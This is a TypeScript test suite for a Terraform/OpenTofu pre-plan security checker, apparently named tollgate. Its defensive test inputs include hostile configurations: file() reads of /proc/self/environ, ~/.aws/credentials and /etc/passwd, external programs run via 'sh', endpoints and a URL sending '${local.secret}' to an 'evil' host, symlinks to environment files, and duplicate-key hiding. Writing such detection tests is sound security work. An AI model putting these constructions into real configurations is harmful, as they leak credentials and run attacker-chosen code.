/** Turns configurations, honest and hostile, into the pre-plan check's findings. */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as fc from "fast-check";
import {
  ALLOWED,
  type Allowed,
  isLocalModule,
  matches,
  moduleFault,
  providerAddress,
} from "../../validators/gate/allowed";
import { prePlanFindings } from "../../validators/gate/pre-plan";
import { checkBeforePlan, repeatedKeys } from "../../validators/gate/pre-plan-files";
import { loadRuntime } from "../../validators/input";
import { InputError } from "../../validators/kernel/index";
import { nativeAsJson } from "../../validators/source/index";

const COMMIT = "0123456789abcdef0123456789abcdef01234567";
const listed: Allowed = {
  ...ALLOWED,
  modules: ["terraform-aws-modules/*", "git::https://example.com/team/module.git", "https://example.com/m.zip"],
};

/** Where the findings are. */
const at = (json: unknown, allowed: Allowed = ALLOWED) =>
  prePlanFindings(json, "cdk.tf.json", allowed).map((one) => one.at);

const bucket = { resource: { aws_s3_bucket: { b: { bucket: "b", "//": { metadata: { path: "s/b" } } } } } };

describe("what may run", () => {
  test.each<[string, unknown]>([
    ["nothing", {}],
    ["a bucket", bucket],
    [
      "CDKTF's way to name the provider",
      {
        terraform: {
          required_providers: { aws: { source: "aws", version: "5.100.0" } },
          backend: { local: { path: "x" } },
        },
        provider: { aws: [{ region: "eu-west-1" }] },
      },
    ],
    [
      "several provider configurations",
      { provider: { aws: [{}, { alias: "west" }] }, resource: { aws_s3_bucket: { b: { provider: "aws.west" } } } },
    ],
    [
      "the built-in provider",
      {
        resource: { terraform_data: { d: { input: 1 } } },
        data: { terraform_remote_state: { r: { backend: "s3", config: { bucket: "b", key: "k" } } } },
      },
    ],
    ["a local module", { module: { m: { source: "./m" } } }],
    [
      "a file of the project",
      {
        output: {
          o: { value: '${file("policy.json")}${file("${path.module}/policy.json")}${fileset(path.module, "*")}' },
        },
      },
    ],
    ["text that mentions a file", { variable: { v: { description: "the file (see /etc)" } } }],
    ["comments", { "//": { external: 1 } }],
    ["a body that is a list", [bucket, {}]],
  ])("%s", (_, json) => {
    expect(at(json)).toEqual([]);
  });
});

describe("what must not run", () => {
  test.each<[string, unknown, string[]]>([
    [
      "a provider that isn't listed",
      { terraform: { required_providers: { evil: { source: "evil/evil" } } } },
      ["terraform.required_providers.evil"],
    ],
    [
      "a listed name from elsewhere",
      { terraform: { required_providers: { aws: { source: "evil.example/hashicorp/aws" } } } },
      ["terraform.required_providers.aws"],
    ],
    [
      "a name with two sources",
      {
        terraform: [
          { required_providers: { aws: { source: "hashicorp/aws" } } },
          { required_providers: { aws: { source: "evil/aws" } } },
        ],
      },
      ["terraform.required_providers.aws", "terraform.required_providers.aws"],
    ],
    [
      "a provider that only a resource implies",
      { resource: { null_resource: { n: {} } } },
      ["resource.null_resource.n"],
    ],
    ["a provider block alone", { provider: { vault: {} } }, ["provider.vault"]],
    [
      "a provider named by a resource",
      { resource: { aws_s3_bucket: { b: { provider: "${evil.x}" } } } },
      ["resource.aws_s3_bucket.b"],
    ],
    [
      "an external data source",
      { data: { external: { x: { program: ["sh"] } } } },
      ["data.external.x", "data.external.x"],
    ],
    ["an http data source", { data: { http: { x: { url: "http://x" } } } }, ["data.http.x", "data.http.x"]],
    [
      "an external data source whose provider is listed",
      { terraform: { required_providers: { external: { source: "hashicorp/aws" } } }, data: { external: { x: {} } } },
      ["data.external.x"],
    ],
    [
      "a function run by a data source",
      { data: { aws_lambda_invocation: { x: {} } } },
      ["data.aws_lambda_invocation.x"],
    ],
    [
      "a function run by an ephemeral resource, which is opened while planning",
      { ephemeral: { aws_lambda_invocation: { x: {} } } },
      ["ephemeral.aws_lambda_invocation.x"],
    ],
    [
      "a list of addresses from an address of its own",
      { data: { aws_ip_ranges: { x: { services: ["S3"], url: "https://evil/${local.secret}" } } } },
      ["data.aws_ip_ranges.x.url"],
    ],
    [
      "OpenTofu's key provider, which can be a program",
      { terraform: { encryption: { key_provider: { external: { x: { command: ["sh"] } } } } } },
      ["terraform.encryption"],
    ],
    [
      "another endpoint in a dynamic block",
      { provider: { aws: { dynamic: { endpoints: { for_each: [1], content: { s3: "https://evil" } } } } } },
      ["provider.aws.dynamic.endpoints"],
    ],
    [
      "another address for the credentials themselves",
      { provider: { aws: { ec2_metadata_service_endpoint: "https://evil" } } },
      ["provider.aws.ec2_metadata_service_endpoint"],
    ],
    [
      "another stack's state with settings that can't be read",
      { data: { terraform_remote_state: { r: { backend: "s3", config: '${{ endpoint = "https://evil" }}' } } } },
      ["data.terraform_remote_state.r.config"],
    ],
    [
      "a data source inside a check",
      { check: { c: { data: { external: { x: {} } } } } },
      ["check.c.data.external.x", "check.c.data.external.x"],
    ],
    [
      "a provisioner",
      { resource: { aws_instance: { i: { provisioner: [{ "local-exec": { command: "x" } }] } } } },
      ["resource.aws_instance.i.provisioner"],
    ],
    [
      "a provisioner of terraform_data",
      { resource: { terraform_data: { d: { provisioner: { "local-exec": {} } } } } },
      ["resource.terraform_data.d.provisioner"],
    ],
    [
      "a provisioner of a removed resource",
      { removed: [{ from: "a.b", provisioner: { "local-exec": {} } }] },
      ["removed.provisioner"],
    ],
    [
      "a resource in lists at every level",
      { resource: [{ aws_instance: [{ i: [{ provisioner: [{}] }] }] }] },
      ["resource.aws_instance.i.provisioner"],
    ],
    [
      "a remote module",
      { module: { m: { source: "terraform-aws-modules/s3-bucket/aws", version: "1.2.3" } } },
      ["module.m"],
    ],
    ["a module without a source", { module: { m: {} } }, ["module.m"]],
    ["a module source that is an expression", { module: { m: { source: "${var.x}" } } }, ["module.m"]],
    [
      "a program named by a shared configuration",
      { provider: { aws: { shared_config_files: ["./evil"] } } },
      ["provider.aws.shared_config_files"],
    ],
    ["another endpoint", { provider: { aws: [{ endpoints: [{ s3: "https://evil" }] }] } }, ["provider.aws.endpoints"]],
    [
      "another endpoint of the backend",
      { terraform: { backend: { s3: { endpoint: "https://evil" } } } },
      ["terraform.backend.s3.endpoint"],
    ],
    ["a backend that isn't listed", { terraform: { backend: { http: {} } } }, ["terraform.backend.http"]],
    ["another service's plan", { terraform: { cloud: {} } }, ["terraform.cloud"]],
    [
      "another stack's state by http",
      { data: { terraform_remote_state: { r: { backend: "http", config: {} } } } },
      ["data.terraform_remote_state.r.backend"],
    ],
    ["a kind of block that nobody knows", { action: {} }, ["action"]],
    ["a kind of block named like a prototype's member", JSON.parse('{"__proto__": {"x": 1}}'), ["__proto__"]],
    ["no object at all", "x", [""]],
  ])("%s", (_, json, expected) => {
    expect(at(json)).toEqual(expected);
  });

  test.each([
    '${file("/proc/self/environ")}',
    '${file("~/.aws/credentials")}',
    '${file("../../secret")}',
    '${file("a/../../secret")}',
    '${file("node_modules/linked")}',
    '${filebase64("/x")}',
    "${file(var.path)}",
    '${file("${var.path}")}',
    '${file("${path.module}/../x")}',
    '${file(join("", ["/", "etc"]))}',
    '${file/* */("/etc/passwd")}',
    '${ "}" == "}" ? file("/etc/passwd") : ""}',
    '%{ if true }${templatefile("/x", {})}%{ endif }',
    '${fileset("/", "*")}',
    '${file (\n "/x")}',
  ])("a file outside the project: %s", (value) => {
    expect(at({ output: { o: { value } } })).toEqual(["output.o.value"]);
    expect(at({ locals: { [value]: 1 } })).toHaveLength(1);
  });

  test("a file outside the project, in an object whose key looks like a comment", () => {
    // Terraform 1.11.4 evaluates it: `//` is a comment in a block only.
    expect(at({ locals: { a: { "//": '${file("/proc/self/environ")}' } } })).toEqual(["locals.a.//"]);
  });

  test("deep nesting is walked, not climbed", () => {
    let json: unknown = '${file("/x")}';
    for (let depth = 0; depth < 50_000; depth++) json = [json];
    expect(at({ locals: { deep: json } })).toHaveLength(1);
  });

  test("what it says is one line without control characters", () => {
    const [finding] = prePlanFindings({ provider: { "\u001b[2Jevil\n::set-output": {} } }, "a\nb", ALLOWED);
    expect(JSON.stringify(finding)).not.toMatch(/\\u001b|\\n/);
  });
});

test.each([
  ["aws", "registry.terraform.io/hashicorp/aws"],
  ["hashicorp/aws", "registry.terraform.io/hashicorp/aws"],
  ["Registry.Terraform.io/HashiCorp/AWS", "registry.terraform.io/hashicorp/aws"],
  ["registry.opentofu.org/hashicorp/aws", "registry.terraform.io/hashicorp/aws"],
  ["example.com/a/b", "example.com/a/b"],
])("provider %s is %s", (source, address) => {
  expect(providerAddress(source)).toBe(address);
});

test.each<[string, string | undefined, RegExp | undefined]>([
  ["terraform-aws-modules/s3-bucket/aws", "4.1.2", undefined],
  ["terraform-aws-modules/s3-bucket/aws", "= 4.1.2", undefined],
  ["terraform-aws-modules/s3-bucket/aws//modules/object", "4.1.2", undefined],
  ["terraform-aws-modules/s3-bucket/aws", "~> 4.1", /one exact/],
  ["terraform-aws-modules/s3-bucket/aws", "4.1", /one exact/],
  ["terraform-aws-modules/s3-bucket/aws", undefined, /one exact/],
  [`git::https://example.com/team/module.git?ref=${COMMIT}`, undefined, undefined],
  ["git::https://example.com/team/module.git?ref=v1.0.0", undefined, /full commit id/],
  [`git::https://example.com/team/module.git?ref=main&ref=${COMMIT}`, undefined, /full commit id/],
  ["git::https://example.com/team/module.git", undefined, /full commit id/],
  ["https://example.com/m.zip", undefined, /can't be pinned/],
  ["evil/module/aws", "1.0.0", /not in the list/],
])("module %s %s", (source, version, fault) => {
  const said = moduleFault(source, version, listed);
  if (fault === undefined) expect(said).toBeUndefined();
  else expect(said).toMatch(fault);
});

test("a local module begins with a dot and a slash", () => {
  expect(["./m", "../m", ".", ".."].map(isLocalModule)).toEqual([true, true, true, true]);
  expect(["m", "/m", ".m", "..m", ""].map(isLocalModule)).toEqual([false, false, false, false, false]);
});

test("a pattern covers what a regular expression would", () => {
  const word = fc.string({ unit: fc.constantFrom("a", "b", "*"), maxLength: 8 });
  fc.assert(
    fc.property(word, word, (pattern, text) => {
      const expression = new RegExp(`^${pattern.split("*").join(".*")}$`, "s");
      expect(matches(pattern, text)).toBe(expression.test(text));
    }),
  );
});

describe("repeated keys", () => {
  test("are found where they hide a block", () => {
    expect(repeatedKeys('{"data":{"external":{}},"data":{}}')).toEqual(["data"]);
    expect(repeatedKeys('{"a":{"b":1,"\\u0062":2}}')).toEqual(["b"]);
    expect(repeatedKeys('{"a":[{"b":1},{"b":1}],"b":{"a":"a","c":"\\"a\\":"}}')).toEqual([]);
  });

  test("are never found in what JSON.stringify writes", () => {
    fc.assert(fc.property(fc.jsonValue(), (value) => expect(repeatedKeys(JSON.stringify(value))).toEqual([])));
  });
});

describe("files", () => {
  let folder: string;
  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), "tollgate-preplan-"));
  });
  afterEach(() => rmSync(folder, { recursive: true, force: true }));
  const write = (name: string, text: string) => {
    mkdirSync(join(folder, name, ".."), { recursive: true });
    writeFileSync(join(folder, name), text);
    return join(folder, name);
  };

  test("a single file is looked at alone, a directory as Terraform loads it", () => {
    const good = write("cdk.tf.json", JSON.stringify(bucket));
    write("evil.tf.json", '{"data":{"external":{"x":{}}}}');
    expect(checkBeforePlan([good])).toEqual([]);
    expect(checkBeforePlan([folder]).map((one) => one.file)).toEqual([
      join(folder, "evil.tf.json"),
      join(folder, "evil.tf.json"),
    ]);
  });

  test("local modules are followed, once, wherever they lie", () => {
    write("a/main.tf.json", '{"module":{"m":{"source":"../b"},"n":{"source":"./c"}}}');
    write(
      "b/main.tf.json",
      '{"module":{"back":{"source":"../a"}},"resource":{"terraform_data":{"d":{"provisioner":[{}]}}}}',
    );
    write("a/c/main.tf.json", "{}");
    expect(checkBeforePlan([join(folder, "a")]).map((one) => [one.file, one.at])).toEqual([
      [join(folder, "b/main.tf.json"), "resource.terraform_data.d.provisioner"],
    ]);
  });

  test("a block hidden behind a second one of its name is found", () => {
    const file = write("cdk.tf.json", '{"data":{"external":{"x":{}}},"data":{}}');
    expect(checkBeforePlan([file]).map((one) => one.at)).toEqual(["data"]);
  });

  test("a provider may be named in one file and used in another", () => {
    write("versions.tf.json", '{"terraform":{"required_providers":{"github":{"source":"integrations/github"}}}}');
    write("main.tf.json", '{"resource":{"github_repository":{"r":{}}}}');
    const allowed = { ...ALLOWED, providers: ["hashicorp/aws", "integrations/github"] };
    expect(checkBeforePlan([folder], allowed)).toEqual([]);
    expect(checkBeforePlan([folder]).map((one) => one.at)).toEqual(["terraform.required_providers.github"]);
  });

  test("every file that Terraform loads is looked at, whatever it is called", () => {
    for (const name of ["#a.tf.json", "a_override.tf.json", "a.tofu.json"]) write(name, '{"data":{"http":{"x":{}}}}');
    for (const name of [".a.tf.json", "a.tf.json~", "#a.tf.json#"]) write(name, '{"data":{"http":{"x":{}}}}');
    expect([...new Set(checkBeforePlan([folder]).map((one) => one.file))]).toEqual(
      ["#a.tf.json", "a.tofu.json", "a_override.tf.json"].map((name) => join(folder, name)),
    );
  });

  test("tests are looked at, since `terraform init` installs what they ask for", () => {
    write("main.tf.json", "{}");
    write(
      "tests/a.tftest.json",
      '{"provider":{"evil":{}},"mock_provider":{"aws":{}},"run":{"x":{"module":{"source":"evil/x/aws"}},"y":{"module":{"source":"./sub"}}}}',
    );
    write("sub/main.tf.json", '{"data":{"external":{"x":{}}}}');
    expect(checkBeforePlan([folder]).map((one) => one.at)).toEqual([
      "provider.evil",
      "run.x.module",
      "data.external.x",
      "data.external.x",
    ]);
  });

  test("a link out of the project is found, one within it is not", () => {
    write("main.tf.json", "{}");
    write("policy.json", "{}");
    symlinkSync("policy.json", join(folder, "same.json"));
    mkdirSync(join(folder, "deep"));
    for (const [name, target] of [
      ["environment", "/proc/self/environ"],
      ["deep/above", ".."],
      ["deep/far", "../.."],
      ["later", "nothing-yet"],
    ] as const)
      symlinkSync(target, join(folder, name));
    expect(
      checkBeforePlan([folder])
        .map((one) => one.file)
        .sort(),
    ).toEqual(["deep/far", "environment", "later"].map((name) => join(folder, name)));
  });

  test("npm's links are its own, but not in a module that comes from there", () => {
    write("main.tf.json", "{}");
    write("node_modules/m/main.tf.json", "{}");
    symlinkSync("/proc/self/environ", join(folder, "node_modules/m/environment"));
    expect(checkBeforePlan([folder])).toEqual([]);
    write("main.tf.json", '{"module":{"m":{"source":"./node_modules/m"}}}');
    expect(checkBeforePlan([folder]).map((one) => one.file)).toEqual([join(folder, "node_modules/m/environment")]);
  });

  test("providers planted beside the code are found", () => {
    write("main.tf.json", "{}");
    write("terraform.d/plugins/x", "");
    expect(checkBeforePlan([folder]).map((one) => one.file)).toEqual([join(folder, "terraform.d/plugins")]);
  });

  test.each([
    ["no JSON", "{", /expected JSON/],
    ["nothing", undefined, /expected a `.tf.json`/],
  ])("%s is refused in one line", (_, text, message) => {
    if (text !== undefined) write("main.tf.json", text);
    expect(() => checkBeforePlan([folder])).toThrow(InputError);
    expect(() => checkBeforePlan([folder])).toThrow(message);
    expect(() => checkBeforePlan([join(folder, "none")])).toThrow(/can't be read/);
  });
});

describe("native syntax", () => {
  beforeAll(loadRuntime);
  const native = (text: string) =>
    prePlanFindings(nativeAsJson(text, "main.tf"), "main.tf", ALLOWED).map((one) => one.at);

  test("says what the JSON syntax would say", () => {
    const text = `
# a comment
terraform {
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 5.0"
    }
  }
}
resource "aws_s3_bucket" "b" {
  for_each = toset(["a", "b"])
  bucket   = "b-\${each.key}"
  tags     = { Name = "$\${x}", (var.key) = 1 }
  list     = [1, true, null, local.x]
  lifecycle {
    prevent_destroy = true
  }
}
resource "aws_s3_bucket" "c" {}
`;
    expect(nativeAsJson(text, "main.tf")).toEqual({
      terraform: [{ required_providers: [{ aws: { source: "hashicorp/aws", version: "~> 5.0" } }] }],
      resource: [
        {
          aws_s3_bucket: {
            b: {
              // biome-ignore-start lint/suspicious/noTemplateCurlyInString: Terraform's templates
              for_each: '${toset(["a", "b"])}',
              bucket: "b-${each.key}",
              tags: '${{ Name = "$${x}", (var.key) = 1 }}',
              list: [1, true, null, "${local.x}"],
              // biome-ignore-end lint/suspicious/noTemplateCurlyInString: Terraform's templates
              lifecycle: [{ prevent_destroy: true }],
            },
          },
        },
        { aws_s3_bucket: { c: {} } },
      ],
    });
  });

  test("lets an ordinary configuration through", () => {
    expect(
      native(`
provider "aws" {
  region = var.region
}
variable "region" {
  description = "the region (a file (or so) says which)"
}
module "site" {
  source = "./site"
  policy = templatefile("\${path.module}/policy.json", { bucket = "b" })
}
data "terraform_remote_state" "other" {
  backend = "s3"
  config = {
    bucket = "b"
    key    = "k"
  }
}
`),
    ).toEqual([]);
  });

  test.each<[string, string[]]>([
    ['data "external" "x" { program = ["sh"] }', ["data.external.x", "data.external.x"]],
    ["data external x { }", ["data.external.x", "data.external.x"]],
    [
      'resource "terraform_data" "d" {\n provisioner "local-exec" {\n command = "x"\n}\n}',
      ["resource.terraform_data.d.provisioner"],
    ],
    ['terraform {\n backend "http" {}\n}', ["terraform.backend.http"]],
    ['terraform {\n required_providers {\n x = { source = "evil/x" }\n}\n}', ["terraform.required_providers.x"]],
    [
      'provider "aws" {\n dynamic "endpoints" {\n for_each = [1]\n content { s3 = "https://evil" }\n}\n}',
      ["provider.aws.dynamic.endpoints"],
    ],
    ['module "m" { source = "evil/x/aws" }', ["module.m"]],
    ['module "m" { source = "./${"x"}" }', ["module.m"]],
    ['locals { x = file("/proc/self/environ") }', ["locals.x"]],
    ['locals { x = { "//" = file("/proc/self/environ") } }', ["locals.x.//"]],
    ['locals { x = <<-E\n  ${file("/proc/self/environ")}\n  E\n}', ["locals.x"]],
    ['locals { x = "a ${file /* b */ ("/proc/self/environ")}" }', ["locals.x"]],
    ['output "o" { value = [for k in ["/etc/passwd"] : file(k)] }', ["output.o.value"]],
    ['ephemeral "aws_lambda_invocation" "x" {}', ["ephemeral.aws_lambda_invocation.x"]],
  ])("%s", (text, expected) => {
    expect(native(text)).toEqual(expected);
  });

  test("a label that is more than plain text is refused: Terraform would read another name", () => {
    expect(() => nativeAsJson('ephemeral "aws_lambda_invocati\\u006fn" "x" {}', "main.tf")).toThrow(
      /line 1: expected a label of plain text/,
    );
    expect(() => nativeAsJson("data {", "main.tf")).toThrow(InputError);
  });

  test("a directory of native files is looked at as a whole", () => {
    const folder = mkdtempSync(join(tmpdir(), "tollgate-preplan-"));
    try {
      mkdirSync(join(folder, "m"));
      writeFileSync(join(folder, "main.tf"), 'module "m" {\n  source = "./m"\n}\n');
      writeFileSync(join(folder, "stray.tf.json"), "{}");
      writeFileSync(join(folder, "m", "main.tf"), 'data "external" "x" {\n  program = ["sh"]\n}\n');
      expect(checkBeforePlan([folder], ALLOWED, nativeAsJson).map((one) => one.file)).toEqual([
        join(folder, "m", "main.tf"),
        join(folder, "m", "main.tf"),
      ]);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
